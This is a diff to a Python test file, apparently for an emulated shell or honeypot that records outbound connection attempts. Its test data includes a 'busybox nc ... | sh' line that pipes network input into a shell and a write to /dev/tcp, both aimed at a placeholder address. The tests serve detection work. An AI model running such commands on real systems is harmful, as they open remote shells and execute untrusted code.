@@ -22,8 +22,14 @@ def offers(shell: Shell, line: str) -> list[str]:
         "busybox nc 192.0.2.1 99 | sh",
     ],
 )
-def test_a_connection_is_an_offer(shell: Shell, line: str) -> None:
+def test_a_connection_is_an_offer(shell: Shell, server: Shell, line: str) -> None:
+    assert offers(server, line) == ["tcp://192.0.2.1:99"]
     assert offers(shell, line) == ["tcp://192.0.2.1:99"]
+
+
+def test_ash_has_no_connections_of_its_own(shell: Shell) -> None:
+    reply = shell.run(b"echo x > /dev/tcp/192.0.2.1/99")
+    assert reply.output == b"-sh: can't create /dev/tcp/192.0.2.1/99: nonexistent directory\n"
 
 
 def test_devices_behave(shell: Shell) -> None:
